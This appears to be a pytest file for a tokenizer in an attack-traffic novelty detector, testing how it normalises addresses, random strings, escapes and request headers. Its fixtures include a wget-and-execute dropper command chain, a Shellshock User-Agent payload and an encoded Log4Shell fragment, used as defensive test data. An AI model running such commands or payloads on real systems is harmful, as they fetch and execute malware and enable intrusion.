import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propolis.detection.novelty.template import (
    ADDRESS,
    ESCAPED,
    HEX,
    HOST,
    MAX_TOKENS,
    NUMBER,
    RANDOM,
    TEXT_BYTES,
    is_random,
    of_request,
    spans,
    tokens,
    told_headers,
)


def test_what_varies_is_a_class_and_what_is_done_stays() -> None:
    first = tokens(b"cd /tmp; wget http://198.51.100.7:8080/x86; chmod 777 x86; ./x86 kX9f2Qz1")
    other = tokens(b"cd /tmp; wget http://203.0.113.250:81/x86; chmod 755 x86; ./x86 bQ3rT8w1")
    assert first == other
    assert {ADDRESS, NUMBER, RANDOM} <= set(first)
    assert b"wget" in first


@pytest.mark.parametrize(
    ("text", "token"),
    [
        (b"https://drop.example.org/", HOST),
        (rb"\x6b\x61\x6d\x69", ESCAPED),
        (b"%24%7bjndi", ESCAPED),
        (b"0xdeadbeef", HEX),
        (b"d41d8cd98f00b204e9800998ecf8427e", HEX),
        (b"aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ=", RANDOM),
        (b"aGVsbG8gd29ybGQgdGhpcyBp/cyBiYXNlNjQgZm9yIHlvdQ==", RANDOM),
    ],
)
def test_classes(text: bytes, token: bytes) -> None:
    assert token in tokens(text)


@pytest.mark.parametrize(
    "word", [b"sha256sum", b"x86_64", b"getRuntimeExec", b"XMLHttpRequest", b"base64", b"mdrfckr", b"busybox"]
)
def test_words_that_people_write_are_not_random(word: bytes) -> None:
    assert not is_random(word)


def test_a_made_up_word_in_pieces_is_one_token() -> None:
    assert tokens(b"key=Ab3dE5gH7i/9kL1mN3oP5/qR7sT9uV1w") == (b"key", b"=", RANDOM)


def test_who_asks_is_left_out_of_a_request() -> None:
    one = of_request(b"GET /a.php?x=%27 HTTP/1.1\r\nHost: a\r\nUser-Agent: zgrab\r\nX-Api-Version: v\r\n\r\n")
    other = of_request(b"GET /a.php?x=%27 HTTP/1.0\r\nAccept: */*\r\nX-Api-Version: v\r\nhost: b\r\n\r\n")
    assert one == other == b"GET /a.php?x='\nX-Api-Version: v\n"


def test_a_client_that_is_an_exploit_stays() -> None:
    assert told_headers(b"User-Agent: () { :;}; /bin/id\r\nReferer: http://a/") == [
        b"User-Agent: () { :;}; /bin/id"
    ]


@settings(max_examples=200)
@given(st.binary(max_size=600) | st.text(alphabet="aB3/\\x%+=<>.:{}$\n ", max_size=300).map(str.encode))
def test_any_bytes_have_tokens_in_order_within_bounds(text: bytes) -> None:
    found = spans(text)
    assert len(found) <= MAX_TOKENS
    assert all(left.end <= right.start for left, right in itertools.pairwise(found))
    assert all(0 <= span.start < span.end <= len(text) and span.token for span in found)
    assert len(of_request(text)) <= TEXT_BYTES
